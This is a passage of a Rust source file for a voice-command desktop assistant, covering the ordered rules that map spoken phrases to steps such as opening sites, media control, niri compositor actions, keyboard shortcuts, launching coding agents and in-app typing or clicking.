//! The rules: from a normalised utterance to its steps (one, or two for an agent typed
//! into a terminal; `lib.rs` joins the plans of "X and Y" into one of several steps).
//!
//! Rules are tried in a fixed order and the first that matches decides:
//!
//! 1. `open_url`: an address said in full ("open `https://github.com/rust-lang/rust`", "go
//!    to example.com/docs") → op `ensure_url {url, site}`, the address kept as said; and
//!    `app_phrase`: a phrase the focused application's profile names exactly ("search" in
//!    Spotify, "clear" in a terminal), see [`crate::language`].
//! 2. `media`: playback commands ("pause", "next track", "pause spotify", "spotify pause",
//!    "skip on vlc") → op `media`, args `{command, player?}`.
//! 3. `search`: "search youtube for cats", "google X", "look up X" → op `open_url` of a
//!    search template (the site's, Google's, the focused browser's, or the default engine).
//! 4. `open_site`: "open / go to / visit / show \<site\>" for a site of the catalog
//!    → op `ensure_url`, args `{url, site}`, `site` being the catalog entry's name
//!    ("YouTube"), which the desktop plugin looks for in browser window titles.
//! 5. `compositor`: a curated phrase of `data/compositor-phrases.toml` ("workspace two",
//!    "the third workspace", "move this to workspace 3", "focus left", "close this window",
//!    "take a screenshot") → op `niri`, args `{command, args?, options?}`.
//! 6. `niri_bind`: a phrase generated from the user's own niri key bindings ("focus workspace
//!    one", a binding's hotkey-overlay-title such as "open a terminal", see
//!    [`crate::niri_config`]) → op `niri` with the bound action.
//! 7. `shortcut`: a shortcut of the focused application's profile by name or synonym ("new
//!    tab", "reload the page"), aimed at a named application ("firefox new tab"), or a
//!    common chord ("copy", "undo") → op `key {chord, app?}`; escalates when only another
//!    kind of application knows it ("new tab" in a terminal: `needs_browser`).
//! 8. `agent`: "start claude", "boot up a codex session", "run aider in a new terminal",
//!    "launch claude code here" → typed into the focused terminal (unless a new one was
//!    asked for), else `niri spawn` of a terminal profile's `run` argv with the agent's
//!    command ("here" with no terminal focused: `needs_terminal`).
//! 9. `ensure_app` / `focus_app`: "switch to / focus / show / go to / bring up \<app\>"
//!    (the verbs of the phrase file's `[apps]`) → op `ensure_app`, args `{app, desktop_id,
//!    wm_class?}`, for an installed application; else op `focus_app`, args `{app}`, for a
//!    window of the context whose app_id is the spoken name or one of its profile's.
//! 10. `close_app`: "close / quit / exit \<app\>" → op `close_app`, args `{app}`: a window's
//!     app_id from the context, else an installed application's id.
//! 11. `launch_app`: "open / launch / start / run \<app\>" for an installed application
//!     → op `launch_app`, args `{app_id, name}` ("open" with a window of it open: the
//!     focus-or-launch); a profile's application without a desktop entry → `ensure_app
//!     {app, argv}` with the profile's `launch`.
//! 12. `terminal`: "run / execute \<command\>" with a terminal focused → op `terminal
//!     {command}` (the runner keeps it off by default and confirms it); else `needs_terminal`.
//! 13. `aimed_input`: "foot press enter", "type hello in kitty" → the in-app step with `app`.
//! 14. `type_text`: "type / type in / write / enter the text \<text\>" → op `type_text`, args
//!     `{text}`, the text as it was said (see [`crate::inapp`]).
//! 15. `key`: "press / hit / tap \<chord\> [N times]" → op `key`, args `{chord, repeat?}`
//!     with X keysym names ("press control shift t" → `ctrl+shift+t`).
//! 16. `scroll`: "scroll up / down / left / right [a little | a lot | N times]" → op
//!     `scroll`, args `{direction, amount}`.
//! 17. `click_element`: "click / click on / tap on \<element\>", and "press / hit the
//!     \<name\> button" or "tap \<name\>" when the words are no key chord → op
//!     `click_element`, args `{description}`.
//! 18. `open_domain`: "open / go to / visit / show \<host name\>" → op `ensure_url`, args
//!     `{url: "https://<host>", site: "<host>"}`.
//!
//! When none plans, three readings of the whole utterance are tried, in order, before
//! giving up (they only ever plan what every rule above left unplanned):
//!
//! - an application named at the start, or after "in"/"on"/"into" at either end
//!   ("terminal press enter", "in vs code save the file", "paste that into the terminal";
//!   "the terminal" and "the browser" name an open window of that kind): the rest planned
//!   as if it were focused, if that gives steps acting inside a window → the application
//!   focused (or started) first, then those steps;
//! - `loose_shortcut`: a shortcut name or synonym said with other words around it, compared
//!   by content words in any order ("reopen the tab I just closed", "zoom out a bit",
//!   "go to the end of the line"), and "the third tab" in a browser;
//! - a one-key phrase said with how many times ("undo three times") → its `key` with
//!   `repeat`.
//!
//! When none of those plans, [`plan_steps`] answers an [`Escalation`]: the first rule's that
//! recognised the phrase but could not plan it, else [`explained`]'s, else `no_rule`.
//!
//! Why this order:
//!
//! - A catalog site keeps "go to \<site\>" and "show \<site\>" (4 before 5-11): a catalog is a
//!   list of names somebody chose, and no curated phrase is a site's name (a test checks that
//!   against the built-in catalog).
//! - Workspace, window and monitor words beat application names (5 before 9): "switch to
//!   workspace 2" is never a search for an application called "workspace 2", and "close this
//!   window" is not `close_app` of an application called "this window".
//! - Curated phrases beat the generated ones (5 before 6) when both claim a phrase, and a
//!   generated phrase beats the application rules (6 before 9-11): "open a terminal" is what
//!   the user's own binding says it is.
//! - "open X" still prefers a site, then an application, then a host name (4, 11, 18).
//! - The in-app rules (13-17) come after everything that names a site, an application or a
//!   compositor action, so none of them can take a phrase of those: "pause" stays media,
//!   "close this window" and "take a screenshot" stay the compositor's, "enter fullscreen"
//!   is not typing. Their verbs (type, write, enter the text, press, hit, tap, scroll,
//!   click) open no phrase of rules 2-11 either; a test checks every curated phrase and
//!   every "\<site verb\> \<site\>" against them. Only the user's own niri bindings could
//!   say "press ..." or "type ...", and then the user's binding wins (6 before 13-17).
//! - Among themselves: "press" and "hit" are a key first and click only "the \<name\>
//!   button" (or link, tab, icon, ...) whose name is no key; "tap" is a key when its words
//!   are a chord and a click otherwise; "page down" is a key, "scroll down" a scroll (see
//!   [`crate::inapp`]).
//! - 13-17 and 18 share no verb, so the host-name rule keeps "open example.com".
//!
//! Rule 5 plans on every compositor: the op `niri` names niri's actions, and the compositor
//! plugin maps each to sway's command where sway has one (and says clearly when it has
//! none). Rule 6 comes from the user's niri config, so it is skipped when the context names
//! another compositor (sway). Without a context (no compositor plugin) both plan.
//!
//! Numbers: rules 5 and 6 compare the utterance with every spoken number written as digits
//! ([`crate::numbers`]), so "workspace two", "workspace 2", "the second workspace" and
//! "the 2nd workspace" are one phrase. A workspace number is 1 to 255: "workspace 0",
//! "workspace 300" and a signed "workspace -1" (which normalisation writes "workspace minus
//! 1", as it does "workspace minus one") match no phrase at all, so no other number is ever
//! planned in their place.
//!
//! Confirmation: a step of a destructive compositor action (closing the focused window,
//! quitting the session, powering the monitors off; see [`Curated::confirms`]) carries
//! `confirm: true`, and the runner asks the person before it runs (PROTOCOL.md §9.5). That
//! holds for the curated phrases ("close it", "kill this window") and for the user's niri
//! bindings of the same actions alike. Every other step says `confirm: false`; `close_app` is
//! confirmed by the runner's own policy.
//!
//! When nothing matches, [`explain`] says why if a rule came close (a number out of range, a
//! niri binding on another compositor, an unknown name after "switch to" or "close"), so
//! the empty plan's message helps the person rephrase.
//!
//! Provenance and the context: every argument here comes from the utterance, the curated
//! file, the user's niri config or a desktop entry, and the step keeps the request's
//! provenance (`user` for spoken words). The one value taken from the context is the
//! `app_id` of `focus_app`/`close_app`, and it is taken only when it equals the spoken name
//! up to case, spaces, dashes and dots: the context *selects* which spelling to send, it
//! cannot add anything the user did not say, so nothing marks the step specially. Window
//! titles are never read.
//!
//! The in-app rules take their values from the utterance as received
//! ([`Sources::utterance`]) rather than from the normalised words: the text to type keeps
//! its case and punctuation, and so does the name of the element to click.
//!
//! Everything here is pure over the given [`Sources`], which is how the unit tests drive it;
//! `lib.rs` supplies the real ones.

use crate::apps::{AppEntry, app_forms, find_app};
use crate::commands::CommandWords;
use crate::context::{Context, Likeness};
use crate::inapp;
use crate::language::{self, Escalation};
use crate::numbers;
use crate::phrases::{Curated, NiriAction, PhraseTable};
use crate::profiles::{Kind, Profiles};
use crate::sites::{Catalog, site_forms};
use crate::text::{is_hostname, strip_word_prefix, strip_word_suffix};
use std::sync::Arc;
use utter_protocol::serde_json::{Value, json};

/// Verbs that open a web site or a host name, longest first so "show me" wins over "show".
const SITE_VERBS: &[&str] = &[
    "navigate to",
    "take me to",
    "browse to",
    "check out",
    "show me",
    "open up",
    "pull up",
    "go to",
    "goto",
    "visit",
    "check",
    "open",
    "show",
];

/// Words after a site that ask for a new tab ("open reddit in a new tab"): the step is
/// `open_url` (a new tab) instead of `ensure_url` (the tab showing it, if one does).
const NEW_TAB: &[&str] = &["in a new tab", "in new tab", "in another tab", "in a tab"];

/// Words after a name that say the web is meant ("open spotify in the browser"): the site's
/// `web_names` count too ([`Catalog::lookup_web`]).
const ON_THE_WEB: &[&str] = &[
    "in the browser",
    "in a browser",
    "in my browser",
    "on the web",
    "website",
    "web site",
    "web app",
];

/// The site a target names ("reddit", "reddit in a new tab", "spotify in the browser") and
/// whether a new tab was asked for.
fn site_target<'c>(target: &str, catalog: &'c Catalog) -> Option<(&'c crate::sites::Site, bool)> {
    let mut target = target;
    let mut new_tab = false;
    for words in NEW_TAB {
        if let Some(rest) = strip_word_suffix(target, words).filter(|r| !r.is_empty()) {
            target = rest;
            new_tab = true;
            break;
        }
    }
    for words in ON_THE_WEB {
        if let Some(rest) = strip_word_suffix(target, words).filter(|r| !r.is_empty()) {
            return catalog.lookup_web(rest).map(|s| (s, new_tab));
        }
    }
    catalog
        .lookup(target)
        .or_else(|| new_tab.then(|| catalog.lookup_web(target)).flatten())
        .map(|s| (s, new_tab))
}

/// The step that opens `site`: in a new tab (`open_url`), or the tab showing it if a browser
/// has one, else a new one (`ensure_url`).
fn open_site(site: &crate::sites::Site, new_tab: bool) -> Matched {
    if new_tab {
        return Matched {
            rule: "open_site",
            op: "open_url",
            args: json!({"url": site.url}),
            message: format!("open {} ({}) in a new tab", site.name, site.url),
            confirm: false,
        };
    }
    Matched {
        rule: "open_site",
        op: "ensure_url",
        args: json!({"url": site.url, "site": site.name}),
        message: format!("open {} ({})", site.name, site.url),
        confirm: false,
    }
}

/// Verbs that launch an application, longest first.
pub(crate) const APP_VERBS: &[&str] = &[
    "start up", "fire up", "boot up", "spin up", "open up", "launch", "start", "open", "run",
];

/// What follows "play", "pause", "stop", "resume" or "unpause" without changing the command.
const MEDIA_OBJECTS: &[&str] = &[
    "",
    "it",
    "music",
    "the music",
    "my music",
    "playback",
    "the playback",
    "song",
    "the song",
    "this song",
    "track",
    "the track",
    "this track",
    "video",
    "the video",
    "this video",
    "media",
    "the media",
    "audio",
    "the audio",
    "podcast",
    "the podcast",
];

/// What may follow "next" or "previous".
const TRACK_WORDS: &[&str] = &["", "track", "song", "one", "video", "episode"];

/// Verbs of moving to another track, before "the next song" / "the previous one".
const MEDIA_MOVES: &[&str] = &[
    "play",
    "go to",
    "skip to",
    "jump to",
    "switch to",
    "change to",
    "move to",
    "go back to",
    "back to",
    "skip back to",
    "jump back to",
];

/// What may follow "skip".
const SKIP_OBJECTS: &[&str] = &[
    "",
    "it",
    "this",
    "this one",
    "track",
    "this track",
    "the track",
    "song",
    "this song",
    "the song",
    "ahead",
    "forward",
];

/// Media players that may be named right after a command without "on" ("pause spotify").
/// With "on"/"in" any name is accepted ("pause on my player").
pub const KNOWN_PLAYERS: &[&str] = &[
    "spotify",
    "vlc",
    "mpv",
    "firefox",
    "chromium",
    "chrome",
    "rhythmbox",
    "clementine",
    "strawberry",
    "elisa",
    "audacious",
    "lollypop",
    "amberol",
    "celluloid",
    "totem",
    "kodi",
    "cmus",
    "mpd",
];

/// Words after "on"/"in" that describe how to play rather than which player.
const NOT_PLAYERS: &[&str] = &["repeat", "loop", "shuffle", "background", "the background"];

/// A playback command, as sent in `args.command`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MediaCommand {
    /// Start or resume.
    Play,
    /// Pause.
    Pause,
    /// Toggle between playing and paused.
    PlayPause,
    /// Stop.
    Stop,
    /// Next track.
    Next,
    /// Previous track.
    Previous,
    /// Louder (MPRIS `Volume` up a step).
    VolumeUp,
    /// Quieter.
    VolumeDown,
    /// Volume to nothing.
    Mute,
    /// The volume before muting back.
    Unmute,
}

impl MediaCommand {
    /// The wire name.
    pub fn as_str(self) -> &'static str {
        match self {
            MediaCommand::Play => "play",
            MediaCommand::Pause => "pause",
            MediaCommand::PlayPause => "play_pause",
            MediaCommand::Stop => "stop",
            MediaCommand::Next => "next",
            MediaCommand::Previous => "previous",
            MediaCommand::VolumeUp => "volume_up",
            MediaCommand::VolumeDown => "volume_down",
            MediaCommand::Mute => "mute",
            MediaCommand::Unmute => "unmute",
        }
    }

    fn describe(self) -> &'static str {
        match self {
            MediaCommand::Play => "resume playback",
            MediaCommand::Pause => "pause playback",
            MediaCommand::PlayPause => "toggle play/pause",
            MediaCommand::Stop => "stop playback",
            MediaCommand::Next => "skip to the next track",
            MediaCommand::Previous => "go back to the previous track",
            MediaCommand::VolumeUp => "turn the volume up",
            MediaCommand::VolumeDown => "turn the volume down",
            MediaCommand::Mute => "mute",
            MediaCommand::Unmute => "unmute",
        }
    }
}

/// The one step a rule produced.
#[derive(Debug, Clone, PartialEq)]
pub struct Matched {
    /// The rule's name: `media`, `open_site`, `compositor`, `niri_bind`, `ensure_app`,
    /// `focus_app`, `close_app`, `launch_app`, `type_text`, `key`, `scroll`,
    /// `click_element` or `open_domain`.
    pub rule: &'static str,
    /// The step's op.
    pub op: &'static str,
    /// The step's args.
    pub args: Value,
    /// A short human description of the step.
    pub message: String,
    /// The step asks the person before it runs (`confirm: true`): a destructive compositor
    /// action (see [`Curated::confirms`]). `close_app` is confirmed by the runner's policy
    /// already, so it is not marked here.
    pub confirm: bool,
}

/// Where the rules find installed applications.
pub trait AppLookup {
    /// The application a spoken name refers to (see [`find_app`]).
    fn find(&self, spoken: &str) -> Option<AppEntry>;

    /// The `Name` of every installed application, for the close names a message suggests
    /// when nothing was found (see [`explain`]).
    fn names(&self) -> Vec<String>;

    /// Every installed application (the decision head's candidates, [`crate::decide`]).
    fn all(&self) -> &[AppEntry];
}

impl AppLookup for Vec<AppEntry> {
    fn find(&self, spoken: &str) -> Option<AppEntry> {
        find_app(self, spoken).cloned()
    }

    fn names(&self) -> Vec<String> {
        self.iter().map(|app| app.name.clone()).collect()
    }

    fn all(&self) -> &[AppEntry] {
        self
    }
}

/// Where the user's niri bindings are looked up (see [`PhraseTable::lookup`]).
pub trait BindsLookup {
    /// The bound action a canonical phrase names, with the number of its slot.
    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)>;
}

impl BindsLookup for PhraseTable {
    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)> {
        PhraseTable::lookup(self, canonical)
    }
}

/// Everything the rules consult besides the utterance.
pub struct Sources<'a> {
    /// The site catalog.
    pub catalog: &'a Catalog,
    /// The installed applications.
    pub apps: &'a dyn AppLookup,
    /// The curated compositor phrases and application verbs.
    pub curated: &'a Curated,
    /// The phrases of the user's niri bindings.
    pub binds: &'a dyn BindsLookup,
    /// The request's desktop context, if it had one.
    pub context: Option<&'a Context>,
    /// The utterance as received (trimmed, not normalised), whose words the in-app rules
    /// pass on as said. Empty: the normalised text stands in for it.
    pub utterance: &'a str,
    /// The application profiles ([`crate::profiles`]).
    pub profiles: &'a Profiles,
    /// Synonyms, common chords, agents and the search engine ([`crate::commands`]).
    pub words: &'a CommandWords,
}

/// The built-in profiles, loaded once (for tests and benchmarks; the plugin reloads the
/// user's through [`crate::profiles::ProfilesSource`]).
pub fn builtin_profiles() -> &'static Profiles {
    static PROFILES: std::sync::OnceLock<Profiles> = std::sync::OnceLock::new();
    PROFILES.get_or_init(Profiles::builtin)
}

/// The built-in command words, loaded once.
///
/// # Panics
/// If `data/commands.toml` is invalid (a unit test loads it).
pub fn builtin_words() -> &'static CommandWords {
    static WORDS: std::sync::OnceLock<CommandWords> = std::sync::OnceLock::new();
    WORDS.get_or_init(|| CommandWords::builtin().expect("data/commands.toml is valid"))
}

impl Sources<'_> {
    /// The utterance the in-app rules read: [`Sources::utterance`], else `text`.
    pub(crate) fn spoken<'t>(&'t self, text: &'t str) -> &'t str {
        if self.utterance.trim().is_empty() {
            text
        } else {
            self.utterance
        }
    }
}

/// Apply the rules to `text`, which must already be normalised with fillers stripped: the
/// first step of [`plan_steps`], when it plans.
pub fn plan(text: &str, sources: &Sources<'_>) -> Option<Matched> {
    plan_steps(text, sources).ok()?.into_iter().next()
}

/// Apply the rules to `text` (normalised, fillers stripped): the steps of the first rule
/// that plans (one, or two for an agent typed into a terminal), else why none does.
///
/// # Errors
/// The [`Escalation`] of the first rule that recognised the phrase but could not plan it,
/// else [`explain`]'s, else `no_rule`.
pub fn plan_steps(text: &str, sources: &Sources<'_>) -> Result<Vec<Matched>, Escalation> {
    let planned = plan_rules(text, sources);
    match planned {
        Ok(steps) => Ok(steps),
        Err(e) => aimed_at_app(text, sources)
            .or_else(|| language::loose_shortcut(text, sources).map(|m| vec![m]))
            .or_else(|| repeated(text, sources))
            .ok_or(e),
    }
}

/// The ops a phrase aimed at an application may plan: what acts inside the focused window.
/// Not text or terminal commands: the rest is planned from normalised words, which would
/// lose what was said ("type hello in kitty" is the `aimed_input` rule's, with the words as
/// said).
const IN_APP_OPS: &[&str] = &["key", "click_element", "scroll"];

/// "terminal press enter", "in vs code save the file", "scroll down in firefox": a phrase
/// that plans nothing as a whole, but names an application (open, installed or with a
/// profile) in one of its [`app_readings`]. The rest is planned as if that application were
/// focused; when it plans only [`IN_APP_OPS`] steps, the plan is the application focused (or
/// started) first, then those steps (a key step also names it, so the action plugin focuses
/// it again). `None` when no reading plans, or the rest names another application.
fn aimed_at_app(text: &str, sources: &Sources<'_>) -> Option<Vec<Matched>> {
    for (name, rest) in app_readings(text) {
        let Some(focus) = switch_to(&name, sources) else {
            continue;
        };
        let Some(app_id) = ["wm_class", "app", "app_id"]
            .iter()
            .find_map(|k| focus.args.get(*k).and_then(Value::as_str))
            .map(str::to_owned)
        else {
            continue;
        };
        let mut context = sources.context.cloned().unwrap_or_default();
        context.focused_app_id = Some(app_id.clone());
        let aimed = Sources {
            context: Some(&context),
            utterance: "",
            ..*sources
        };
        let Ok(steps) = plan_rules(&rest, &aimed).or_else(|e| {
            language::loose_shortcut(&rest, &aimed)
                .map(|m| vec![m])
                .ok_or(e)
        }) else {
            continue;
        };
        if steps.is_empty() || !steps.iter().all(|m| IN_APP_OPS.contains(&m.op)) {
            continue;
        }
        // A shortcut by name needs the application's own profile: without one the chord
        // is a common one (ctrl+z, ctrl+c, ctrl+s), which a program running in a terminal
        // (vim's entry says Terminal=true) takes as suspend, interrupt or freeze. A key
        // the person names ("press enter") is theirs.
        let profiled = sources.profiles.for_app_id(&app_id).is_some()
            || sources
                .profiles
                .for_app_id(focus.args["app"].as_str().unwrap_or(""))
                .is_some();
        if !profiled
            && steps
                .iter()
                .any(|m| matches!(m.rule, "shortcut" | "loose_shortcut"))
        {
            continue;
        }
        // Two applications named ("save in vs code in firefox"): which one is meant is not
        // known.
        if names_an_app(&rest, sources) {
            return None;
        }
        let mut plan = vec![focus];
        for mut step in steps {
            if step.op == "key"
                && let Value::Object(map) = &mut step.args
            {
                map.insert("app".into(), Value::String(app_id.clone()));
            }
            plan.push(step);
        }
        return Some(plan);
    }
    None
}

/// The ways `text` may name an application and what to do in it, as (name, rest), the name
/// without a leading "the"/"my": "in <app> <rest>", "<rest> in <app>" (also "on", "into",
/// "inside"), "<app> <rest>"; names of at most four words.
fn app_readings(text: &str) -> Vec<(String, String)> {
    const MAX: usize = 4;
    let words: Vec<&str> = text.split(' ').filter(|w| !w.is_empty()).collect();
    let n = words.len();
    let preposition = |w: &str| matches!(w, "in" | "on" | "inside" | "into");
    let mut readings: Vec<(String, String)> = Vec::new();
    if n < 2 {
        return readings;
    }
    if preposition(words[0]) {
        for k in 1..=MAX.min(n.saturating_sub(2)) {
            readings.push((words[1..1 + k].join(" "), words[1 + k..].join(" ")));
        }
    }
    for cut in 1..n - 1 {
        if preposition(words[cut]) && n - cut - 1 <= MAX {
            readings.push((words[cut + 1..].join(" "), words[..cut].join(" ")));
        }
    }
    for k in 1..=MAX.min(n - 1) {
        readings.push((words[..k].join(" "), words[k..].join(" ")));
    }
    readings
        .into_iter()
        .map(|(name, rest)| {
            let name = ["the ", "my "]
                .iter()
                .find_map(|a| name.strip_prefix(a))
                .map_or(name.clone(), str::to_owned);
            (name, rest)
        })
        .filter(|(name, rest)| !name.is_empty() && !rest.is_empty())
        .collect()
}

/// Whether `rest` itself names an application in one of its [`app_readings`].
fn names_an_app(rest: &str, sources: &Sources<'_>) -> bool {
    app_readings(rest)
        .iter()
        .any(|(name, _)| switch_to(name, sources).is_some())
}

/// "undo three times", "next tab twice": a phrase that plans one key press, said with how
/// many times (2 to [`crate::inapp::MAX_REPEAT`]; more is cut to it): that press repeated.
fn repeated(text: &str, sources: &Sources<'_>) -> Option<Vec<Matched>> {
    let canonical = numbers::digits(text);
    let words: Vec<&str> = canonical.split(' ').collect();
    let (times, rest) = crate::inapp::repetition(&words).ok()?;
    // More than the most a key is pressed is refused, not cut to it: "undo fifty times"
    // done twenty times is neither what was asked nor nothing.
    if !(2..=crate::inapp::MAX_REPEAT).contains(&times)
        || rest.is_empty()
        || rest.len() == words.len()
    {
        return None;
    }
    let rest = rest.join(" ");
    let steps = plan_rules(&rest, sources)
        .ok()
        .or_else(|| language::loose_shortcut(&rest, sources).map(|m| vec![m]))?;
    let [mut step]: [Matched; 1] = steps.try_into().ok()?;
    if step.op != "key" || step.args.get("repeat").is_some() {
        return None;
    }
    step.args["repeat"] = json!(times);
    step.message = format!("{} ({times} times)", step.message);
    Some(vec![step])
}

/// [`plan_steps`] without the reading of [`aimed_at_app`].
fn plan_rules(text: &str, sources: &Sources<'_>) -> Result<Vec<Matched>, Escalation> {
    let one = |m: Matched| Ok(vec![m]);
    if text.is_empty() {
        return Err(Escalation {
            reason: "no_rule",
            message: "nothing was said".into(),
        });
    }
    let raw = sources.spoken(text);
    let mut pending: Option<Escalation> = None;
    if let Some(m) = language::url(raw) {
        return one(m);
    }
    // The focused application's own phrase decides first (Talon's per-app context).
    if let Some(m) = language::focused_phrase(text, sources) {
        return one(m);
    }
    if let Some(found) = plan_head(text, sources, raw, &mut pending) {
        return one(found);
    }
    match language::agent(text, sources) {
        Some(Ok(steps)) => return Ok(steps),
        Some(Err(e)) => {
            pending.get_or_insert(e);
        }
        None => {}
    }
    if let Some(found) = plan_tail(text, sources, raw, &mut pending) {
        return one(found);
    }
    Err(pending
        .or_else(|| explained(text, sources))
        .unwrap_or_else(|| Escalation {
            reason: "no_rule",
            message: format!("no rule matched \"{}\"", raw.trim()),
        }))
}

/// A step or an escalation, noting the escalation to give if no later rule plans.
fn settle(
    outcome: Option<Result<Matched, Escalation>>,
    pending: &mut Option<Escalation>,
) -> Option<Matched> {
    match outcome? {
        Ok(m) => Some(m),
        Err(e) => {
            pending.get_or_insert(e);
            None
        }
    }
}

/// The rules before the agent rule, in order (see the module docs).
fn plan_head(
    text: &str,
    sources: &Sources<'_>,
    raw: &str,
    pending: &mut Option<Escalation>,
) -> Option<Matched> {
    if let Some((command, player)) = media(text) {
        let mut args = json!({"command": command.as_str()});
        let mut message = command.describe().to_owned();
        if let Some(player) = player {
            message = format!("{message} on {player}");
            args["player"] = Value::String(player);
        }
        return Some(Matched {
            rule: "media",
            op: "media",
            args,
            message,
            confirm: false,
        });
    }
    if let Some(m) = settle(language::search(sources, raw), pending) {
        return Some(m);
    }
    for target in targets(text, SITE_VERBS) {
        if let Some((site, new_tab)) = site_target(target, sources.catalog) {
            return Some(open_site(site, new_tab));
        }
    }
    let canonical = numbers::digits(text);
    let niri = |rule: &'static str, (action, n): (Arc<NiriAction>, Option<u32>)| Matched {
        rule,
        op: "niri",
        args: action.step_args(n),
        message: action.describe(n),
        // A binding of a destructive action asks as the curated phrase for it does.
        confirm: action.confirm || sources.curated.confirms(&action.command),
    };
    if let Some(found) = sources.curated.table.lookup(&canonical) {
        return Some(niri("compositor", found));
    }
    if Context::may_be_niri(sources.context)
        && let Some(found) = sources.binds.lookup(&canonical)
    {
        return Some(niri("niri_bind", found));
    }
    if let Some(m) = crate::space::plan(text) {
        return Some(m);
    }
    if let Some(m) = settle(language::shortcut(text, sources), pending) {
        return Some(m);
    }
    None
}

/// The rules after the agent rule, in order.
fn plan_tail(
    text: &str,
    sources: &Sources<'_>,
    raw: &str,
    pending: &mut Option<Escalation>,
) -> Option<Matched> {
    for target in targets(text, &sources.curated.focus_verbs) {
        if let Some(matched) = switch_to(target, sources) {
            return Some(matched);
        }
    }
    // "switch to github": no application or window is called so, the site is (its tab is
    // focused when a browser shows it, else it opens).
    for target in targets(text, &sources.curated.focus_verbs) {
        if let Some((site, new_tab)) = site_target(target, sources.catalog) {
            return Some(open_site(site, new_tab));
        }
    }
    for target in targets(text, &sources.curated.close_verbs) {
        if let Some(matched) = close(target, sources) {
            return Some(matched);
        }
    }
    for verb in APP_VERBS {
        let Some(target) = strip_word_prefix(text, verb).filter(|t| !t.is_empty()) else {
            continue;
        };
        if let Some(app) = sources.apps.find(target) {
            // "open firefox" with a Firefox window open focuses it (focus-or-launch).
            let open = verb.starts_with("open")
                && sources.context.is_some_and(|c| {
                    c.app_ids.iter().any(|id| {
                        id.eq_ignore_ascii_case(&app.id)
                            || app
                                .wm_class
                                .as_deref()
                                .is_some_and(|w| id.eq_ignore_ascii_case(w))
                            || sources
                                .profiles
                                .for_app_id(id)
                                .is_some_and(|p| p.is_named(target))
                    })
                });
            if open {
                return switch_to(target, sources);
            }
            return Some(Matched {
                rule: "launch_app",
                op: "launch_app",
                message: format!("launch {} ({})", app.name, app.id),
                args: json!({"app_id": app.id, "name": app.name}),
                confirm: false,
            });
        }
        // A profile's application without a desktop entry: its own launch argv.
        if let Some(matched) = profile_launch(target, sources) {
            return Some(matched);
        }
    }
    if let Some(m) = settle(language::terminal(sources, raw), pending) {
        return Some(m);
    }
    if let Some(m) = language::aimed_input(text, sources, raw) {
        return Some(m);
    }
    if let Some(matched) = inapp::plan(raw) {
        return Some(matched);
    }
    for target in targets(text, SITE_VERBS) {
        if let Some(url) = local_address(target) {
            return Some(Matched {
                rule: "open_domain",
                op: "ensure_url",
                message: format!("open {url}"),
                args: json!({"url": url, "site": url.trim_start_matches("http://")}),
                confirm: false,
            });
        }
        if let Some(host) = site_forms(target).into_iter().find(|f| is_hostname(f)) {
            let url = format!("https://{host}");
            return Some(Matched {
                rule: "open_domain",
                op: "ensure_url",
                message: format!("open {url}"),
                args: json!({"url": url, "site": host}),
                confirm: false,
            });
        }
    }
    None
}

/// "localhost port 3000", "localhost colon 8080", "local host 5173": the development server
/// on this machine, over plain http (what `npm run dev` and the like print).
fn local_address(target: &str) -> Option<String> {
    let rest = strip_word_prefix(target, "localhost")
        .or_else(|| strip_word_prefix(target, "local host"))?;
    let rest = ["port ", "colon ", "on port ", ""]
        .iter()
        .find_map(|p| rest.strip_prefix(p))?;
    let port: u16 = numbers::digits(rest).parse().ok().filter(|p| *p > 0)?;
    Some(format!("http://localhost:{port}"))
}

/// Why [`plan`] found no step for `text`, when a rule came close enough to say so:
///
/// - a phrase with a workspace number that is no workspace number ("workspace -1",
///   "workspace 0", "go to workspace 300"): which numbers there are;
/// - one of the user's niri binding phrases while the context names another compositor:
///   that the binding is niri's and which compositor runs;
/// - an in-app verb without what it needs ("press blorp" names the unknown key word, "type"
///   alone, "scroll sideways", "click it"; see [`inapp::explain`]);
/// - a focus or close verb with a name that is neither an installed application nor an
///   app_id of the context's windows ("switch to firefox" without Firefox): that nothing is
///   called so, with up to [`MAX_CLOSE_NAMES`] similar names from both when there are any
///   (and from the site catalog after a verb that also opens sites, "go to" or "show").
///
/// `None` when no rule came close; the caller then says that no rule matched. Call it only
/// after [`plan`] returned `None`: it does not check again that nothing matches.
pub fn explain(text: &str, sources: &Sources<'_>) -> Option<String> {
    explained(text, sources).map(|e| e.message)
}

/// [`explain`] with its reason code: `bad_number`, `other_compositor`, `incomplete` (an
/// in-app verb without what it needs) or `unknown_target`.
pub fn explained(text: &str, sources: &Sources<'_>) -> Option<Escalation> {
    if text.is_empty() {
        return None;
    }
    let because = |reason: &'static str| move |message: String| Escalation { reason, message };
    let canonical = numbers::digits(text);
    if let Some((action, number)) = sources.curated.table.lookup_bad_number(&canonical) {
        return Some(format!(
            "{} needs a number from 1 to {}, not {number}",
            action.command,
            crate::phrases::MAX_SLOT
        ))
        .map(because("bad_number"));
    }
    if !Context::may_be_niri(sources.context) && sources.binds.lookup(&canonical).is_some() {
        let compositor = sources
            .context
            .and_then(|c| c.compositor.as_deref())
            .unwrap_or("another compositor");
        return Some(format!(
            "\"{text}\" is one of your niri key bindings, but this session runs {compositor}"
        ))
        .map(because("other_compositor"));
    }
    if let Some(message) = inapp::explain(sources.spoken(text)) {
        return Some(because("incomplete")(message));
    }
    let launch_verbs: Vec<String> = APP_VERBS.iter().map(|v| (*v).to_owned()).collect();
    let verbs = sources
        .curated
        .focus_verbs
        .iter()
        .chain(&sources.curated.close_verbs)
        .chain(&launch_verbs);
    let (verb, target) = verbs
        .filter_map(|verb| Some((verb, strip_word_prefix(text, verb)?)))
        .find(|(_, rest)| !rest.is_empty())?;
    let name = spoken_name(target);
    // "go to" and "show" also open sites: then a site's name is as likely as an application's.
    let sites_too = SITE_VERBS.contains(&verb.as_str());
    let mut message = format!(
        "no {}installed application or open window is called \"{name}\"",
        if sites_too { "site, " } else { "" }
    );
    let mut candidates: Vec<String> = sources.apps.names();
    if let Some(context) = sources.context {
        candidates.extend(context.app_ids.iter().cloned());
    }
    if sites_too {
        candidates.extend(sources.catalog.sites().iter().map(|s| s.name.clone()));
    }
    let close = close_names(&name, candidates);
    if !close.is_empty() {
        message.push_str(&format!("; similar names: {}", close.join(", ")));
    }
    Some(because("unknown_target")(message))
}

/// The most similar names [`explain`] lists.
pub const MAX_CLOSE_NAMES: usize = 3;

/// The name a focus or close target is about: without a trailing "window", a leading article
